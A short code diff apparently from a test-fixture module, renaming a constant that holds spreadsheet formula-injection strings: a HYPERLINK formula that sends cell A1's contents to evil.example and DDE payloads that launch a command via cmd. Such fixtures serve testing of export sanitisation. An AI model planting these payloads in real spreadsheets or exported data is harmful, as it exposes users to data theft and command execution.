@@ -4,7 +4,7 @@
 
 from typing import Final
 
-AWKWARD: Final[dict[str, str]] = {
+EDGE_CASE_TEXTS: Final[dict[str, str]] = {
     "a-formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "a-formula-with-a-plus": "+1+cmd|' /C calc'!A0",
     "a-formula-with-an-at": "@SUM(1+1)*cmd|' /C calc'!A0",
